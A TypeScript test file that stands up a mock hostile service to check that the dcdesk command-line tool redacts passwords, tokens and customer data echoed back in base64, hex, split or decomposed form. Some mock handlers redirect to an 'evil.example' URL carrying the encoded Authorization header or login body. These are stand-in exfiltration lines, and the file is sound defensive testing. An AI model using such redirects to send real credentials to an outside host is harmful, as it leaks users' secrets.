/**
 * A hostile service that echoes the secrets base64- or hex-encoded inside longer texts (a whole
 * `Authorization: Bearer …` header, the login body, `user:password`, in a Problem, a trace id, a
 * redirect's Location, an upload's answer), run through the built dcdesk. What it printed and
 * every file of its data folder are decoded wherever they hold base64 or hex, and searched. Then
 * the customer's data echoed encoded, split into parts, decomposed (NFD) or cut by the raw copy.
 */
import { existsSync, writeFileSync } from 'node:fs';
import Database from 'better-sqlite3';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runBin } from '../support/cli';
import { tempDir } from '../support/files';
import { decodedRuns, findSecrets, folderFiles, holdsPieceOf } from '../support/secret-scan';

const password = 'Zq8#Lmw2Vx!pR4sT';
const token = 'tokQ7ZxV93mPlk2aWbn0Rts5Yu';
const b64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');

type Answer = (response: ServerResponse, body: string, authorization: string) => void;
const send = (
  response: ServerResponse,
  status: number,
  body: unknown,
  type = 'application/json',
) => {
  response.writeHead(status, { 'Content-Type': type });
  response.end(typeof body === 'string' ? body : JSON.stringify(body));
};
const problem = (response: ServerResponse, detail: string, traceId = 'trace-1') =>
  send(response, 400, { title: 'Bad', status: 400, detail, traceId }, 'application/problem+json');
const grant: Answer = (response) => send(response, 200, { token, expiresIn: 3600 });

let onAuth: Answer = grant;
let onInsights: Answer = (response) => send(response, 204, '');
let onUpload: Answer = (response) => send(response, 200, 'received');

const server = createServer((request: IncomingMessage, response) => {
  let body = '';
  request.on('data', (chunk: Buffer) => (body += chunk.toString()));
  request.on('end', () => {
    const route = request.url ?? '';
    const answer = route.endsWith('/authentication')
      ? onAuth
      : route.endsWith('/insights')
        ? onInsights
        : onUpload;
    answer(response, body, request.headers.authorization ?? '');
  });
});
let url = '';
const work = tempDir('dcdesk-encoded-echo-cli-');
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`;
});
afterAll(() => {
  server.close();
  work.remove();
});

let runs = 0;
/** Runs dcdesk with a data folder of its own; gives what it printed and the folder's files. */
async function run(args: string[]) {
  runs += 1;
  const dataDir = work.file(`data-${String(runs)}`);
  const done = await runBin([...args, '--base-url', url], {
    DCDESK_USERNAME: 'analyst',
    DCDESK_PASSWORD: password,
    DCDESK_DATA_DIR: dataDir,
  });
  const files = existsSync(dataDir) ? folderFiles(dataDir) : [];
  return { ...done, printed: `${done.stdout}\n${done.stderr}`, files };
}

const lookup = [
  'lookup',
  '--session-id',
  'abcdefghijklmnopqrstuvwxyz',
  '--external-id',
  'ext000001',
  '--cpf',
  '529.982.247-25',
  '--email',
  'joão.conceição+vip@exemplo.com.br',
  '--phone',
  '+55 (11) 98765-4321',
  '--zip',
  '01310-100',
];

/** What a reader could decode of the secrets from `text`. */
const decodedSecrets = (text: string) => decodedRuns(text).filter(holdsPieceOf(password, token));

describe('dcdesk and a service echoing the secrets encoded', () => {
  const lookups: Record<string, Answer> = {
    'the Authorization header in base64': (response, _body, authorization) =>
      problem(response, `Header was ${b64(authorization)}`),
    'the token in hex': (response, _body, authorization) =>
      problem(response, `token hex ${hex(authorization.replace(/^Bearer /, ''))}`),
    'the header in base64 as the trace id': (response, _body, authorization) =>
      problem(response, 'x', b64(authorization)),
    'the header in base64 in a redirect': (response, _body, authorization) => {
      response.writeHead(307, { Location: `https://evil.example/x?t=${b64(authorization)}` });
      response.end();
    },
  };
  const logins: Record<string, Answer> = {
    'user:password in base64': (response, body) => {
      const sent = JSON.parse(body) as { username: string; password: string };
      send(response, 400, { message: `Tried Basic ${b64(`${sent.username}:${sent.password}`)}` });
    },
    'the login body in base64': (response, body) =>
      send(response, 400, { message: `Invalid credentials for request ${b64(body)}` }),
    'the password in hex': (response, body) =>
      send(response, 400, {
        message: `bad password ${hex((JSON.parse(body) as { password: string }).password)}`,
      }),
    'the login body in base64 in a redirect': (response, body) => {
      response.writeHead(302, { Location: `https://evil.example/login?x=${b64(body)}` });
      response.end();
    },
  };

  /** Nothing of the secrets printed or stored, in any encoding; and the mark says why. */
  function expectHidden(done: Awaited<ReturnType<typeof run>>) {
    expect(done.printed).toContain('[redacted]');
    expect(decodedSecrets(done.printed)).toEqual([]);
    for (const file of done.files)
      expect(decodedSecrets(file.bytes.toString('latin1')), file.name).toEqual([]);
    const found = Object.entries(findSecrets(done.files, [password, token]));
    expect(found.filter(([, count]) => count > 0)).toEqual([]);
  }

  for (const [name, answer] of Object.entries(lookups)) {
    it(`hides ${name}, answering a lookup`, async () => {
      onAuth = grant;
      onInsights = answer;
      const done = await run(lookup);
      expect(done.code).not.toBe(0);
      expectHidden(done);
    });
  }

  for (const [name, answer] of Object.entries(logins)) {
    it(`hides ${name}, refusing the sign-in`, async () => {
      onAuth = answer;
      const done = await run(['auth']);
      expect(done.code).not.toBe(0);
      expectHidden(done);
    });
  }

  it("hides the header in base64 in an upload's answer, kept in the ledger", async () => {
    onAuth = grant;
    onUpload = (response, _body, authorization) =>
      send(response, 200, `received with ${b64(authorization)}`, 'text/plain');
    const file = work.file('answers.csv');
    writeFileSync(file, 'ID Transacional,DeviceId,Resultado\r\next000001,dev-1,Suspeito\r\n');
    const done = await run(['upload', file, '--yes', '--unseen-devices']);
    expect(done.code, done.printed).toBe(0);
    const ledger = await runBin(['uploads', '--json'], {
      DCDESK_DATA_DIR: work.file(`data-${String(runs)}`),
    });
    expectHidden({ ...done, printed: `${done.printed}\n${ledger.stdout}` });
  });
});

describe("dcdesk and a service echoing the customer's data", () => {
  type Sent = { cpf: string; email: string; phone: { number: string } };
  const sent = (body: string) => JSON.parse(body) as Sent;
  const valid = { deviceID: 'dev-1', insights: [], alertQuantity: 0, deviceAge: 1, score: 0.1 };
  /** An answer with a field the interface does not name, holding `value` across the 4,096 cut. */
  const cutAcross = (value: string) => {
    const answer = (pad: string) => JSON.stringify({ ...valid, note: pad, customer: value });
    return answer('x'.repeat(4096 - (answer('').indexOf(value) + 4)));
  };
  const echoes: Record<string, Answer> = {
    'the body in base64': (response, body) => problem(response, `Body was ${b64(body)}`),
    'the body in hex': (response, body) => problem(response, `Body was ${hex(body)}`),
    'the CPF and e-mail split into parts': (response, body) => {
      const { cpf, email: mail } = sent(body);
      const [local, domain] = mail.split('@');
      problem(
        response,
        `cpf base ${cpf.slice(0, 9)} dv ${cpf.slice(9)} | mailbox ${local} at ${domain}`,
      );
    },
    'the e-mail decomposed (NFD)': (response, body) =>
      problem(response, `email ${sent(body).email.normalize('NFD')} refused`),
    "the CPF across the raw copy's cut": (response, body) =>
      send(response, 200, cutAcross(sent(body).cpf)),
    "the e-mail across the raw copy's cut": (response, body) =>
      send(response, 200, cutAcross(sent(body).email)),
  };
  /** Pieces of the customer's data that must not be readable, decoded or not. */
  const pieces = ['5299', '98765', '01310100', 'joão', 'joa\u0303o', 'conceição'];

  for (const [name, answer] of Object.entries(echoes)) {
    it(`keeps ${name} masked in what it prints and stores`, async () => {
      onAuth = grant;
      onInsights = answer;
      const done = await run(lookup);
      const history = new Database(work.file(`data-${String(runs)}/history.sqlite3`), {
        readonly: true,
      });
      const stored = history
        .prepare('SELECT messages_json, raw_answer FROM lookups')
        .all() as Array<Record<string, string | null>>;
      history.close();
      expect(stored).toHaveLength(1);
      const texts = [done.printed, ...stored.flatMap((row) => Object.values(row))];
      for (const text of texts.filter((value): value is string => value !== null)) {
        // Decoded runs are bytes, one a character: read as UTF-8 to compare with accents.
        const utf8 = (bytes: string) => Buffer.from(bytes, 'latin1').toString('utf8');
        const readable = [text, ...decodedRuns(text).map(utf8)];
        for (const piece of pieces)
          expect(
            readable.filter((one) => one.includes(piece)),
            piece,
          ).toEqual([]);
      }
      expect(texts.join('\n')).toMatch(/\*\*\*|\[masked\]/);
    });
  }
});
